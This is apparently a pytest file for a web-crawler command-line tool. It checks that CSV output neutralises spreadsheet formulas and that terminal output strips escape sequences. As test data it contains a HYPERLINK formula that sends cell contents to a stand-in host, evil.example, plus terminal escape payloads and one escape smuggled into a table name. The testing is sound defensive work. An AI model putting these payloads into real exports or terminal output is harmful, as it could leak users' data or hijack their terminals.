"""Page text never becomes a live spreadsheet formula in CSV output, nor an escape sequence on a terminal."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from crawlstack import aws, cli
from crawlstack.cli import common
from crawlstack.cli.safe_text import csv_cell, terminal_text

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", HYPERLINK, "-", "+", "-1e5x"])
def test_formula_triggers_get_a_leading_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [12, -12, 1.5, -1.5, Decimal("-3.25"), "-12", "+12", "-12.5", "-1e5", ".5", "-.5"])
def test_numbers_are_left_alone(value: object) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", ["plain text", "", "a=b", " =x", None, True])
def test_other_cells_are_left_alone(value: object) -> None:
    assert csv_cell(value) == value


def test_terminal_text_leaves_no_escape_sequence() -> None:
    assert terminal_text("a\x1b[2Jb") == "a\u241b[2Jb"
    assert terminal_text("\x1b]0;pwned\x07") == "\u241b]0;pwned\u2407"
    assert terminal_text("x\x9b31my") == "x\ufffd31my"  # the one-byte CSI
    assert terminal_text("del\x7f") == "del\u2421"
    assert terminal_text("caf\u00e9 \u2603") == "caf\u00e9 \u2603"  # printable text is exact


def test_newlines_and_tabs_stay_only_where_asked() -> None:
    assert terminal_text("a\nb\tc") == "a\u240ab\u2409c"
    assert terminal_text("a\nb\tc\x1b", keep_newlines=True) == "a\nb\tc\u241b"


# --- the commands ----------------------------------------------------------------------------------


def _out_dir(tmp_path: Path, title: str) -> Path:
    out = tmp_path / "out"
    out.mkdir()
    record = {"mapping": "m", "url": "https://a.test/", "fields": {"title": title}, "depth": 0, "fetched_at": 1.7e9}
    (out / "records.jsonl").write_text(json.dumps(record) + "\n", encoding="utf-8")
    return out


def test_query_csv_escapes_formulas(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = _out_dir(tmp_path, HYPERLINK)
    sql = "SELECT fields['title'] AS title, -12 AS n FROM records"
    assert cli.main(["query", sql, "--local", str(out), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows == [["title", "n"], ["'" + HYPERLINK, "-12"]]


def test_query_jsonl_stays_exact(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = _out_dir(tmp_path, HYPERLINK + "\x1b[2J")
    sql = "SELECT fields['title'] AS t FROM records"
    assert cli.main(["query", sql, "--local", str(out), "--format", "jsonl"]) == 0
    assert json.loads(capsys.readouterr().out) == {"t": HYPERLINK + "\x1b[2J"}


def test_query_table_prints_no_escape_nor_markup(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = _out_dir(tmp_path, "\x1b[2J[red]x[/red]\x1b]0;pwned\x07\x9b")
    assert cli.main(["query", "SELECT fields['title'] AS t FROM records", "--local", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "\x1b" not in printed and "\x07" not in printed and "\x9b" not in printed
    assert "[red]x[/red]" in printed  # shown as the page's text, not rendered


class _FakeStack:
    connection = None

    def table(self, key: str) -> str:
        return key


class _FakeResults:
    def __init__(self, table: str, connection: Any) -> None:
        pass

    def records(self, crawl_id: str | None, mapping: str | None) -> list[dict[str, Any]]:
        return [{"mapping": "m", "url": "https://a.test/", "crawl_id": "c", "depth": 0, "fields": {"t": HYPERLINK}}]


def test_records_csv_escapes_formulas(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr(common, "stack", lambda args: _FakeStack())
    monkeypatch.setattr(aws, "ResultStore", _FakeResults)
    assert cli.main(["records", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["fields.t"] == "'" + HYPERLINK
    assert rows[0]["depth"] == "0"


def test_error_lines_carry_no_escape(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = _out_dir(tmp_path, "x")
    # DuckDB's message quotes the unknown table's name, escape and all.
    assert cli.main(["query", 'SELECT * FROM "\x1b]0;pwned\x07"', "--local", str(out)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "\x1b" not in err and "\x07" not in err and "\u241b]0;pwned" in err
